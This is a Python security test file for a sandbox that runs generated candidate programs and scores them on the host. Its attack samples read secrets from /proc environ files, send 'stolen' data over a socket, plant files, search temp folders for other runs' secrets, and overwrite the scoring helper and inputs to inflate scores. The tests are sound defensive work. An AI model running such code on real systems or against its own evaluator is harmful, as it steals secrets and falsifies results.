"""Attacks on secrets, the network, files, the spec's code and the inputs."""

from __future__ import annotations

import socket
import time
import uuid
from pathlib import Path

import pytest

import sandbox
from funsearch import spec as spec_module
from sandbox import isolation
from tests.security.conftest import HONEST, SECRET, attack, choices, needs_own_uid, program
from tests.security.test_processes import FORBIDDEN


def test_a_secret_in_the_host_environment_is_not_visible(pool):
    needs_own_uid(pool)
    outcome = attack(
        pool,
        f"""
        import os
        seen = [value for value in os.environ.values() if "{SECRET}" in value]
        for pid in os.listdir("/proc"):
            try:
                with open(f"/proc/{{pid}}/environ", "rb") as handle:
                    seen += [pid] if b"{SECRET}" in handle.read() else []
            except OSError:
                pass
        return seen
        """,
    )
    assert (outcome.status, choices(outcome)) == ("ok", [[], []])


def test_a_tcp_connection_to_localhost_is_forbidden_and_nothing_arrives(pool):
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        port = listener.getsockname()[1]
        outcome = attack(
            pool,
            f"""
            try:
                import socket
            except ImportError:  # process isolation: only preloaded modules import
                import ctypes
                ctypes.CDLL(None).socket(2, 1, 0)  # AF_INET, SOCK_STREAM
            with socket.create_connection(("127.0.0.1", {port}), timeout=0.5) as conn:
                conn.sendall(b"stolen")
            """,
        )
        listener.settimeout(0.2)
        with pytest.raises(TimeoutError):
            listener.accept()
    assert (outcome.status, outcome.detail) == ("forbidden", FORBIDDEN)


def test_writing_outside_tmp_is_refused(pool):
    needs_own_uid(pool)
    target = Path(sandbox.__file__).parent / "planted.py"
    outcome = attack(pool, f"open({str(target)!r}, 'w').write('import os')")
    assert outcome.status == "error"
    reason = "[Errno 30] Read-only" if pool.isolation == "bwrap" else "[Errno 13] Permission"
    assert reason in outcome.detail
    assert not target.exists()


def test_files_of_another_evaluation_cannot_be_read(pool):
    needs_own_uid(pool)
    # A fresh token, so no other file on the machine (this test's own source, in a
    # checkout under /tmp) can contain it.
    secret = f"SECRET-{uuid.uuid4().hex}"
    writer_body = f"""
    import os, tempfile, time
    path = os.path.join(tempfile.gettempdir(), "secret.txt")
    with open(path, "w") as handle:
        handle.write({secret!r})
    time.sleep(0.4)
    return path
    """
    # Evaluations keep their files two levels under a temporary root
    # (funsearch-sandbox-*/worker-*/): the walk goes three deep, so a big tree
    # elsewhere under /tmp (a virtualenv) cannot run it past its time limit.
    reader_body = f"""
    import os
    found = []
    for root in ("/tmp", "/dev/shm", "/var/tmp"):
        for directory, subdirectories, names in os.walk(root):
            if directory.count(os.sep) - root.count(os.sep) >= 3:
                subdirectories.clear()
            for name in names:
                try:
                    with open(os.path.join(directory, name), errors="replace") as handle:
                        found += [name] if {secret!r} in handle.read(1 << 16) else []
                except OSError:
                    pass
    return found
    """
    writer = pool.submit(program(writer_body), "pick", "train")
    time.sleep(0.2)  # the reader should run while the writer holds its file
    reader = pool.run(program(reader_body), "pick", "train")
    written = writer.result()
    assert written.status == "ok"
    assert (reader.status, choices(reader)) == ("ok", [[], []])
    # Afterwards, even knowing the path does not help: the directory is gone.
    late = attack(pool, f"return open({choices(written)[0]!r}).read()")
    assert late.status == "error"
    # Gone (same worker: its folder is emptied after each evaluation), or not
    # readable (another worker: another uid, or another private /tmp).
    assert late.detail.startswith(
        (
            "FileNotFoundError: [Errno 2] No such file",
            "PermissionError: [Errno 13] Permission denied",
        )
    )


def test_replacing_the_spec_helper_does_not_change_the_host_score(pool, spec_path):
    cheat = """
    global closeness
    closeness = lambda instance, choice: 10**9
    return items[0]
    """
    outcome = attack(pool, cheat)
    assert outcome.status == "ok"
    # Split, the run function's helper is out of the program's reach.
    claimed = [-2, -3] if pool.split else [10**9, 10**9]
    assert [output["claimed"] for output in outcome.outputs] == claimed
    scores = host_scores(spec_path, outcome.outputs)
    assert scores == [-2.0, -3.0]  # the first items, scored by the host
    # The helper is the spec's own again in the next evaluation.
    honest = pool.run(HONEST, "pick", "train")
    assert [output["claimed"] for output in honest.outputs] == [0, -1]


def test_mutating_the_input_in_place_is_not_seen_by_later_evaluations(pool):
    outcome = attack(
        pool,
        """
        before = len(items)
        items.clear()
        items.append(100)
        WEIGHTS.append(99.0)
        return before * 100 + len(WEIGHTS)
        """,
    )
    # Each input is its own object; module state changed by the first input
    # is still changed for the second, within this one evaluation only.
    assert outcome.status == "ok"
    assert choices(outcome) == [304, 305]
    after = attack(pool, "return len(items) * 100 + len(WEIGHTS)")
    assert choices(after) == [303, 303]


def test_tampering_with_every_instance_does_not_change_the_host_score(pool, spec_path):
    # Through the call stack a program reaches all inputs of its evaluation
    # (they share a process); the host scores against its own copy.
    outcome = attack(
        pool,
        """
        import sys
        frame = sys._getframe()
        while frame is not None:
            for value in list(frame.f_locals.values()):
                if isinstance(value, dict) and "target" in value:
                    value["target"] = 1
                if isinstance(value, list):
                    for entry in value:
                        if isinstance(entry, tuple) and isinstance(entry[-1], dict):
                            entry[-1]["target"] = 1
            frame = frame.f_back
        return 1
        """,
    )
    assert outcome.status == "ok"
    # Unsplit it fooled the run function; split, it reached only its own arguments.
    claimed = [-2, -6] if pool.split else [0, 0]
    assert [output["claimed"] for output in outcome.outputs] == claimed
    scores = host_scores(spec_path, outcome.outputs)
    assert scores == [-2.0, -6.0]
    honest = pool.run(HONEST, "pick", "train")
    assert [output["claimed"] for output in honest.outputs] == [0, -1]


def host_scores(spec_path, outputs) -> list[float]:
    """What the evaluator computes on the host: the spec's score on its own instances."""
    problem = spec_module.load(spec_path)
    instances = problem.inputs("train").values()
    return [
        problem.score(instance, output) for instance, output in zip(instances, outputs, strict=True)
    ]


def test_under_bwrap_an_evaluation_sees_few_processes_no_network_and_a_read_only_root(pool):
    if pool.isolation != "bwrap":
        pytest.skip("the namespaces are bubblewrap's")
    outcome = attack(
        pool,
        """
        import os
        pids = sorted(int(name) for name in os.listdir("/proc") if name.isdigit())
        with open("/proc/net/dev") as dev:
            interfaces = sorted(line.split(":")[0].strip() for line in dev.readlines()[2:])
        with open("/proc/mounts") as mounts:
            root = [line.split()[3].split(",")[0] for line in mounts if line.split()[1] == "/"]
        return [pids, interfaces, root[-1], sorted(os.listdir("/root"))]
        """,
    )
    pids, interfaces, root, home = choices(outcome)[0]
    # bwrap's init, the worker, its children (split: and their programs): not the host's
    assert len(pids) <= (7 if pool.split else 5)
    assert interfaces == ["lo"]
    assert root == "ro"
    # The private /root shows only what the worker must see (e.g. pyenv's Python).
    needed = isolation.interpreter_paths() + (str(Path(sandbox.__file__).parent),)
    tops = {Path(path).parts[2] for path in needed if path.startswith("/root/")}
    assert set(home) <= tops
